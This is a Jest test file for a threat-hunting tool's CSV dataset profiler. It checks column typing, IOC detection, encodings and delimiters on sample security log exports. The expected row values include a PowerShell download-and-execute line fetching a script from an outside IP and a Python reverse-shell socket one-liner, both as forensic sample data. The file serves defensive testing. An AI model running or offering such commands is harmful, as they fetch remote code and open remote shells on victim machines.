import { createReadStream, statSync } from "node:fs";
import { join } from "node:path";
import { Readable } from "node:stream";
import { CsvReader } from "../../../src/modules/ingest/csv-reader";
import { DatasetProfiler, type DatasetProfile, type DatasetRow } from "../../../src/modules/ingest/profile";

const FIXTURES = join(__dirname, "../../fixtures");

async function profileOf(reader: CsvReader): Promise<{ profile: DatasetProfile; rows: DatasetRow[] }> {
  const profiler = new DatasetProfiler(reader);
  const rows: DatasetRow[] = [];
  for await (const row of profiler.rows()) rows.push(row);
  return { profile: profiler.profile(), rows };
}

const profileFixture = (name: string) => profileOf(new CsvReader(createReadStream(join(FIXTURES, name)), name));
const profileText = (text: string) => profileOf(new CsvReader(Readable.from([Buffer.from(text)]), "test.csv"));
const sizeOf = (name: string) => statSync(join(FIXTURES, name)).size;

describe("DatasetProfiler on exports", () => {
  it("profiles a Velociraptor netstat export (comma, UTF-8)", async () => {
    const { profile, rows } = await profileFixture("velociraptor-netstat.csv");
    expect(profile).toEqual({
      columnSchema: {
        Pid: "integer",
        Name: "domain", // 7 of 8 process names look like domains (svchost.exe); System does not
        Family: "string",
        Type: "string",
        Status: "string",
        "Laddr.IP": "ip", // 7 dotted quads beat one "::"
        "Laddr.Port": "integer",
        "Raddr.IP": "ip",
        "Raddr.Port": "integer",
        Timestamp: "timestamp",
        Fqdn: "domain",
      },
      normalizedColumns: {
        Pid: "pid",
        Name: "process_name",
        Family: "family",
        Type: "type",
        Status: "connection_state",
        "Laddr.IP": "src_ip",
        "Laddr.Port": "src_port",
        "Raddr.IP": "dst_ip",
        "Raddr.Port": "dst_port",
        Timestamp: "timestamp",
        Fqdn: "hostname",
      },
      // Name is excluded although typed domain; Fqdn's canonical name beats its type.
      iocColumns: { "Laddr.IP": "ip", "Raddr.IP": "ip", Fqdn: "hostname" },
      timeRangeStart: new Date("2024-03-12T08:02:11Z"),
      timeRangeEnd: new Date("2024-03-12T09:21:56Z"),
      rowCount: 8,
      encoding: "utf-8",
      delimiter: ",",
      fileSizeBytes: sizeOf("velociraptor-netstat.csv"),
      paddedRows: 0,
      extendedRows: 0,
    });
    expect(rows[4]).toEqual({
      rowIndex: 4,
      data: {
        Pid: "7788",
        Name: "powershell.exe",
        Family: "IPv4",
        Type: "TCP",
        Status: "ESTAB",
        "Laddr.IP": "10.20.30.42",
        "Laddr.Port": "52160",
        "Raddr.IP": "185.220.101.34",
        "Raddr.Port": "8443",
        Timestamp: "2024-03-12T09:21:55Z",
        Fqdn: "WS-FIN-042.corp.example.com",
      },
      normalized: {
        pid: "7788",
        process_name: "powershell.exe",
        family: "IPv4",
        type: "TCP",
        connection_state: "ESTAB",
        src_ip: "10.20.30.42",
        src_port: "52160",
        dst_ip: "185.220.101.34",
        dst_port: "8443",
        timestamp: "2024-03-12T09:21:55Z",
        hostname: "WS-FIN-042.corp.example.com",
      },
      timestamp: new Date("2024-03-12T09:21:55Z"),
    });
  });

  it("profiles a Sysmon export written by PowerShell (UTF-16 LE with BOM, CRLF, every field quoted)", async () => {
    const { profile, rows } = await profileFixture("sysmon-utf16le.csv");
    expect(profile).toEqual({
      columnSchema: {
        UtcTime: "timestamp",
        EventID: "integer",
        Computer: "domain",
        User: "string",
        ProcessId: "integer",
        Image: "path",
        CommandLine: "string", // 2 plain command lines beat 1 starting with C:\; empty cells do not vote
        MD5: "hash_md5",
        SHA256: "hash_sha256",
        DestinationIp: "ip",
        DestinationPort: "integer",
        DestinationHostname: "domain",
      },
      normalizedColumns: {
        UtcTime: "utctime", // no rule accepts UtcTime: no time range
        EventID: "event_id",
        Computer: "computer",
        User: "username",
        ProcessId: "pid",
        Image: "process_name",
        CommandLine: "command_line",
        MD5: "hash_md5",
        SHA256: "hash_sha256",
        DestinationIp: "dst_ip",
        DestinationPort: "dst_port",
        DestinationHostname: "destinationhostname",
      },
      iocColumns: { Computer: "domain", MD5: "hash_md5", SHA256: "hash_sha256", DestinationIp: "ip", DestinationHostname: "domain" },
      timeRangeStart: null,
      timeRangeEnd: null,
      rowCount: 5,
      encoding: "utf-16le",
      delimiter: ",",
      fileSizeBytes: sizeOf("sysmon-utf16le.csv"),
      paddedRows: 0,
      extendedRows: 0,
    });
    expect(rows[2].data.CommandLine).toBe('"C:\\Windows\\System32\\cmd.exe" /c whoami /all');
    expect(rows[3].data.User).toBe("NT AUTHORITY\\SYSTEM");
    expect(rows[2].timestamp).toBeNull();
  });

  it("profiles a European Excel proxy log (semicolon, UTF-8 with BOM, CRLF)", async () => {
    const { profile, rows } = await profileFixture("proxy-semicolon.csv");
    expect(profile).toEqual({
      columnSchema: {
        Time: "string", // day first: not the YYYY-MM-DD shape the type needs
        "Client IP": "ip",
        Username: "string",
        URL: "string",
        "HTTP Status": "integer",
        Bytes: "integer",
        Category: "string",
        Action: "string",
        Duration: "string", // decimal commas
      },
      normalizedColumns: {
        Time: "timestamp",
        "Client IP": "client_ip",
        Username: "username",
        URL: "url",
        "HTTP Status": "http_status",
        Bytes: "file_size",
        Category: "event_type",
        Action: "action", // event_type is Category's
        Duration: "duration",
      },
      iocColumns: { "Client IP": "ip", URL: "url" },
      // ThreatHunt tries %m/%d/%Y before %d/%m/%Y: "12/03/2024 23:59:58" is 3 December, the days past 12 are March.
      timeRangeStart: new Date("2024-03-13T08:01:17Z"),
      timeRangeEnd: new Date("2024-12-03T23:59:58Z"),
      rowCount: 5,
      encoding: "utf-8-sig",
      delimiter: ";",
      fileSizeBytes: sizeOf("proxy-semicolon.csv"),
      paddedRows: 0,
      extendedRows: 0,
    });
    expect(Object.keys(rows[0].data)[0]).toBe("Time"); // the BOM is not part of the first name
    expect(rows[0].data.Duration).toBe("0,21");
  });

  it("profiles an EDR process export with quoted multi-line command lines", async () => {
    const { profile, rows } = await profileFixture("edr-process-multiline.csv");
    expect(profile).toEqual({
      columnSchema: {
        timestamp: "timestamp",
        host: "string",
        pid: "integer",
        ppid: "integer",
        exe: "domain",
        cmdline: "string",
        ParentCommandLine: "path", // 2 paths, 2 strings: the tie goes to path
        sha1: "hash_sha1",
        user: "string",
      },
      normalizedColumns: {
        timestamp: "timestamp",
        host: "hostname",
        pid: "pid",
        ppid: "ppid",
        exe: "process_name",
        cmdline: "command_line",
        ParentCommandLine: "parent_command_line",
        sha1: "hash_sha1",
        user: "username",
      },
      iocColumns: { host: "hostname", sha1: "hash_sha1" },
      timeRangeStart: new Date("2024-03-12T09:21:50.412Z"),
      timeRangeEnd: new Date("2024-03-12T10:02:47.500Z"),
      rowCount: 4,
      encoding: "utf-8",
      delimiter: ",",
      fileSizeBytes: sizeOf("edr-process-multiline.csv"),
      paddedRows: 0,
      extendedRows: 0,
    });
    expect(rows[1].normalized.parent_command_line).toBe(
      "powershell.exe -NoProfile -Command \"$c = New-Object Net.WebClient\n$c.DownloadString('http://185.220.101.34:8443/a.ps1') | IEX\"",
    );
    expect(rows.map((row) => row.timestamp)).toEqual([
      new Date("2024-03-12T09:21:50.412Z"),
      new Date("2024-03-12T09:22:03.880Z"),
      new Date("2024-03-12T09:30:12Z"),
      new Date("2024-03-12T10:02:47.500Z"),
    ]);
  });

  it("profiles a ragged firewall log, keeping extra cells and padding short rows", async () => {
    const { profile, rows } = await profileFixture("ragged-firewall.csv");
    expect(profile).toEqual({
      columnSchema: {
        timestamp: "timestamp",
        src_ip: "ip",
        dst_ip: "ip",
        dst_port: "integer",
        action: "string",
        message: "string",
        extra_1: "string",
        extra_2: "string",
      },
      normalizedColumns: {
        timestamp: "timestamp",
        src_ip: "src_ip",
        dst_ip: "dst_ip",
        dst_port: "dst_port",
        action: "event_type",
        message: "description",
        extra_1: "extra_1",
        extra_2: "extra_2",
      },
      iocColumns: { src_ip: "ip", dst_ip: "ip" },
      timeRangeStart: new Date("2024-03-12T09:21:55Z"),
      timeRangeEnd: new Date("2024-03-12T09:24:30Z"),
      rowCount: 6,
      encoding: "utf-8",
      delimiter: ",",
      fileSizeBytes: sizeOf("ragged-firewall.csv"),
      paddedRows: 2,
      extendedRows: 2,
    });
    expect(rows[2].data).toEqual({
      timestamp: "2024-03-12T09:22:10Z",
      src_ip: "10.20.30.42",
      dst_ip: "185.220.101.34",
      dst_port: "8443",
      action: "deny",
      message: "policy 12",
      extra_1: " rule 4",
      extra_2: " geo RU",
    });
    expect(rows[3].normalized).toEqual({
      timestamp: "2024-03-12T09:22:11Z",
      src_ip: "10.20.30.57",
      dst_ip: "",
      dst_port: "",
      event_type: "",
      description: "",
    });
    expect(Object.keys(rows[4].data)).toEqual(["timestamp", "src_ip", "dst_ip", "dst_port", "action", "message", "extra_1"]);
    expect(rows.map((row) => row.rowIndex)).toEqual([0, 1, 2, 3, 4, 5]);
  });

  it("profiles a French Windows-1252 logon export", async () => {
    const { profile, rows } = await profileFixture("logons-cp1252.csv");
    expect(profile).toEqual({
      columnSchema: {
        EventTime: "timestamp",
        ComputerName: "string",
        AccountName: "string",
        SourceIp: "ip",
        LogonType: "integer",
        Résultat: "string",
        Description: "string",
      },
      normalizedColumns: {
        EventTime: "timestamp",
        ComputerName: "hostname",
        AccountName: "username",
        SourceIp: "src_ip",
        LogonType: "logontype",
        Résultat: "résultat",
        Description: "description",
      },
      iocColumns: { ComputerName: "hostname", SourceIp: "ip" },
      timeRangeStart: new Date("2024-03-12T07:58:03Z"),
      timeRangeEnd: new Date("2024-03-12T08:13:05Z"),
      rowCount: 4,
      encoding: "windows-1252",
      delimiter: ",",
      fileSizeBytes: sizeOf("logons-cp1252.csv"),
      paddedRows: 0,
      extendedRows: 0,
    });
    expect(rows[0].data.AccountName).toBe("françois.dupré");
    expect(rows[0].data.Description).toBe("Ouverture de session réussie – réseau");
    expect(rows[2].data).toMatchObject({ AccountName: "jürgen.müller", Résultat: "Échec" });
    expect(rows[2].data.Description).toBe("Échec d’ouverture de session : mot de passe incorrect");
  });

  it("profiles an osquery process list (tab-delimited)", async () => {
    const { profile, rows } = await profileFixture("osquery-processes.tsv");
    expect(profile).toEqual({
      columnSchema: {
        hostname: "string",
        pid: "integer",
        name: "string",
        path: "path",
        cmdline: "path", // 3 of 5 start with /
        uid: "integer",
        parent: "integer",
        start_time: "integer",
        md5: "hash_md5",
        sha256: "hash_sha256",
      },
      normalizedColumns: {
        hostname: "hostname",
        pid: "pid",
        name: "process_name",
        path: "file_path",
        cmdline: "command_line",
        uid: "user_id",
        parent: "parent",
        start_time: "timestamp",
        md5: "hash_md5",
        sha256: "hash_sha256",
      },
      iocColumns: { hostname: "hostname", md5: "hash_md5", sha256: "hash_sha256" },
      // start_time holds epoch seconds, which none of ThreatHunt's formats reads.
      timeRangeStart: null,
      timeRangeEnd: null,
      rowCount: 5,
      encoding: "utf-8",
      delimiter: "\t",
      fileSizeBytes: sizeOf("osquery-processes.tsv"),
      paddedRows: 0,
      extendedRows: 0,
    });
    expect(rows[4].data.cmdline).toBe(
      "python3 -c import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(('185.220.101.34',4444))",
    );
  });
});

describe("DatasetProfiler", () => {
  const lines = (count: number, line: (i: number) => string) => Array.from({ length: count }, (_, i) => line(i)).join("");

  it("types columns on the first 100 rows only, and yields every row in order", async () => {
    const text = "id,value\n" + lines(100, (i) => `${i},word\n`) + lines(150, (i) => `${100 + i},10.0.0.${i}\n`);
    const { profile, rows } = await profileText(text);
    expect(profile.columnSchema).toEqual({ id: "integer", value: "string" });
    expect(profile.iocColumns).toEqual({});
    expect(profile.rowCount).toBe(250);
    expect(rows.map((row) => row.rowIndex)).toEqual(Array.from({ length: 250 }, (_, i) => i));
    expect(rows[249].data).toEqual({ id: "249", value: "10.0.0.149" });
  });

  it("types extra columns that appear within the first 100 rows like any other", async () => {
    const text = "timestamp,src_ip\n" + "2024-03-12 09:00:00,10.0.0.1,185.220.101.34\n" + lines(20, () => "2024-03-12 09:00:01,10.0.0.2\n");
    const { profile } = await profileText(text);
    expect(profile.columnSchema.extra_1).toBe("ip");
    expect(profile.normalizedColumns.extra_1).toBe("extra_1");
    expect(profile.iocColumns).toEqual({ src_ip: "ip", extra_1: "ip" });
  });

  it("makes extra columns that appear after the first 100 rows strings, named in snake_case, never IOC columns", async () => {
    const text =
      "timestamp,src_ip,Extra 1\n" +
      lines(100, (i) => `2024-03-12 09:00:${String(i % 60).padStart(2, "0")},10.0.0.${i},note\n`) +
      "2024-03-12 10:00:00,10.0.0.200,note,185.220.101.34,evil.com\n" +
      "2024-03-12 10:00:01,10.0.0.201,note\n";
    const { profile, rows } = await profileText(text);
    expect(profile.columnSchema).toEqual({
      timestamp: "timestamp",
      src_ip: "ip",
      "Extra 1": "string",
      extra_1: "string",
      extra_2: "string",
    });
    // "Extra 1" took extra_1 as its snake_case name, so the generated column extra_1 gets extra_1_2.
    expect(profile.normalizedColumns).toEqual({
      timestamp: "timestamp",
      src_ip: "src_ip",
      "Extra 1": "extra_1",
      extra_1: "extra_1_2",
      extra_2: "extra_2",
    });
    expect(profile.iocColumns).toEqual({ src_ip: "ip" });
    expect([profile.rowCount, profile.extendedRows, profile.paddedRows]).toEqual([102, 1, 0]);
    expect(rows[100].normalized).toEqual({
      timestamp: "2024-03-12 10:00:00",
      src_ip: "10.0.0.200",
      extra_1: "note",
      extra_1_2: "185.220.101.34",
      extra_2: "evil.com",
    });
    expect(profile.timeRangeEnd).toEqual(new Date("2024-03-12T10:00:01Z"));
  });

  it("exposes the IOC columns and canonical names from the first row on", async () => {
    expect.assertions(3);
    const profiler = new DatasetProfiler(new CsvReader(Readable.from([Buffer.from("Fqdn,ip\nws1.corp.example.com,10.0.0.1\n")]), "a.csv"));
    for await (const row of profiler.rows()) {
      expect(row.rowIndex).toBe(0);
      expect(profiler.iocColumnsSoFar).toEqual({ Fqdn: "hostname", ip: "ip" });
      expect(profiler.normalizedColumnsSoFar).toEqual({ Fqdn: "hostname", ip: "ip_address" });
    }
  });

  it("keeps a column named __proto__ as data", async () => {
    const { profile, rows } = await profileText("__proto__,constructor\n10.0.0.1,x\n");
    expect(JSON.stringify(rows[0].data)).toBe('{"__proto__":"10.0.0.1","constructor":"x"}');
    expect(JSON.stringify(profile.columnSchema)).toBe('{"__proto__":"ip","constructor":"string"}');
    expect(JSON.stringify(profile.normalizedColumns)).toBe('{"__proto__":"proto","constructor":"constructor"}');
    expect(JSON.stringify(profile.iocColumns)).toBe('{"__proto__":"ip"}');
  });

  it("refuses to give a profile before the rows have been read", () => {
    const profiler = new DatasetProfiler(new CsvReader(Readable.from([Buffer.from("a\n1\n")]), "a.csv"));
    expect(() => profiler.profile()).toThrow("before rows() was read to the end");
  });

  it("passes reader errors on", async () => {
    await expect(profileFixture("header-only.csv")).rejects.toThrow("header-only.csv line 1: header row but no data rows");
  });
});
